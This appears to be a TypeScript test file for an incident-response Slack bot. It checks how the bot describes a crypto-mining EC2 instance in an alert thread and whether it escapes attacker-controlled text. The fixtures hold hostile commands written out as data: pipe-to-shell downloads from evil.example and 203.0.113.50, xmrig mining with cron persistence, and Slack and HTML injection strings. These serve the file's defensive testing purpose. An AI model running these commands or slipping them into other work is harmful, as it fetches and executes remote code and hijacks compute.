import { FakeAws } from './support/fake-aws';
import { fixture, startHarness, tearDownAfterEach, waitFor, type Harness } from './support/harness';
import { MINER_SCRIPT_LINES, runInstancesEvent } from './support/scenes';
import { click, textOf, threadReplies } from './support/slack-user';

const INSTANCE = 'i-0a1b2c3d4e5f60718';
const SIBLINGS = ['i-0000000000000bbb1', 'i-0000000000000bbb2'];
const PRINCIPAL = 'arn:aws:iam::123456789012:user/ci-deploy';
const KEY = 'AKIAEXAMPLEKEY123456';
const runEvent = (ids: string[], time: string) => runInstancesEvent(ids, time, { accessKeyId: KEY, arn: PRINCIPAL }, { userAgent: 'aws-cli/2.13.0 <script>' });

const MINER_USER_DATA = [
  ...MINER_SCRIPT_LINES,
  'curl -s https://evil.example/<!channel>/x.sh | sh # <@U02LEAD> `whoami`',
  ...Array.from({ length: 12 }, (_, i) => `echo configuring step ${i}`),
].join('\n');

async function storyOf(h: Harness) {
  expect((await h.postEvents(fixture('guardduty-crypto-dns'))).status).toBe(202);
  const card = await waitFor(() => h.slack.channelMessages('C02CRIT')[0], 'the alert card');
  // Posted at once; "who launched it" is filled in as CloudTrail's budget allows.
  const story = await waitFor(() => threadReplies(h, card.channel, card.ts).find((m) => textOf(m).includes('The story of') && !textOf(m).includes('looking up')), 'the story in the thread, launcher filled in');
  return { card, story };
}

describe("the instance's story in the alert's thread", () => {
  let h: Harness;
  let aws: FakeAws;
  tearDownAfterEach(() => ({ h, aws }));

  it('tells the crypto-mining instance: miner lines in its user data, foreign AMI, open group, IMDSv1, who launched it and what else they launched', async () => {
    aws = new FakeAws();
    aws.account = '123456789012';
    aws.addWebServer(INSTANCE);
    const web = aws.groups.get('sg-0000000000000web1')!;
    web.ingress = [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }];
    Object.assign(aws.instances.get(INSTANCE)!, { imageId: 'ami-0badc0ffee0000001', launchTime: new Date(Date.now() - 3 * 86400_000).toISOString(), userData: MINER_USER_DATA });
    aws.images.set('ami-0badc0ffee0000001', { id: 'ami-0badc0ffee0000001', name: 'ubuntu-22.04-optimized', ownerId: '444455556666' });
    for (const id of SIBLINGS) aws.addWebServer(id, { eip: false, targetGroup: false });
    aws.instances.get(SIBLINGS[1])!.state = 'terminated';
    aws.trail.push(runEvent([INSTANCE], new Date(Date.now() - 3 * 86400_000).toISOString()), runEvent(SIBLINGS, new Date(Date.now() - 2 * 86400_000).toISOString()));
    h = await startHarness({ file: { story: { enabled: true }, access: { responders: ['U01ANA'], approvers: ['U02LEAD'], requireApproval: ['stop'] }, aws: { maxAttempts: 1 } } });

    const { card, story } = await storyOf(h);
    const t = textOf(story);
    expect(t).toContain('AMI ami-0badc0ffee0000001 is owned by account 444455556666');
    expect(t).toContain('sg-0000000000000web1 (web) allows inbound from anywhere');
    expect(t).toContain('IMDSv1 is still allowed');
    expect(t).toContain('`web-role`');
    expect(t).toMatch(/7: nohup \/tmp\/\.x\/xmrig -o stratum\+tcp:\/\/pool\.minexmr\.com:4444 .*← miner/);
    expect(t).toContain('4: curl -s http://203.0.113.50/install.sh | bash    ← pipe to shell');
    expect(t).toMatch(/8: \(crontab -l; echo .*@reboot \/tmp\/\.x\/xmrig.*\) \| crontab -    ← miner, cron persistence/);
    expect(t).toContain('6: chmod +x /tmp/.x/xmrig    ← miner, executable in /tmp');
    expect(t).toContain('arn:aws:iam::123456789012:user/ci-deploy');
    expect(t).toContain('198.51.100.23');
    expect(t).toContain(`\`${SIBLINGS[0]}\` running`);
    expect(t).toContain(`\`${SIBLINGS[1]}\` terminated`);
    // Attacker-controlled text cannot ping the channel, make links or break out of code.
    expect(t).not.toContain('<!channel>');
    expect(t).not.toContain('<@U02LEAD>');
    expect(t).toContain('9: curl -s https://evil.example/&lt;!channel&gt;/x.sh | sh # &lt;@U02LEAD&gt; ˋwhoamiˋ    ← pipe to shell');
    expect(t).toContain('aws-cli/2.13.0 &lt;script&gt;');

    // Long user data is attached in full, in the thread.
    const file = await waitFor(() => [...h.slack.files.values()].find((f) => f.thread_ts === card.ts), 'the user-data file');
    expect(file.filename).toBe(`${INSTANCE}-user-data.txt`);
    expect(file.content).toContain('stratum+tcp://pool.minexmr.com:4444');

    // One click acts on this instance and the sibling still alive, under one approval.
    await click(h, story, 'ir_bulk_stop', 'U01ANA');
    const approval = await waitFor(() => threadReplies(h, card.channel, card.ts).find((m) => textOf(m).includes('ir_approve')), 'the stop approval');
    expect(textOf(approval)).toContain(`${INSTANCE}: running → stopped`);
    expect(textOf(approval)).toContain(`${SIBLINGS[0]}: running → stopped`);
    expect(textOf(approval)).not.toContain(SIBLINGS[1]);
  });

  it('tells a clean instance plainly, and points to the Athena hunt when CloudTrail has nothing', async () => {
    aws = new FakeAws();
    aws.account = '123456789012';
    aws.addWebServer(INSTANCE);
    Object.assign(aws.instances.get(INSTANCE)!, { imageId: 'ami-0amazon000000001', imdsV1: false, launchTime: new Date(Date.now() - 10 * 86400_000).toISOString() });
    aws.images.set('ami-0amazon000000001', { id: 'ami-0amazon000000001', name: 'al2023-ami-2023.6', ownerId: '137112412989', alias: 'amazon' });
    h = await startHarness({ file: { story: { enabled: true }, aws: { maxAttempts: 1 } } });
    const { story } = await storyOf(h);
    const t = textOf(story);
    expect(t).not.toContain('*Flags*');
    expect(t).toContain('*User data*: none');
    expect(t).toContain('IMDS v2 only');
    expect(t).toContain('has no RunInstances for it');
    expect(t).toContain('Athena hunt');
    expect(t).not.toContain('ir_bulk_stop');
  });
});
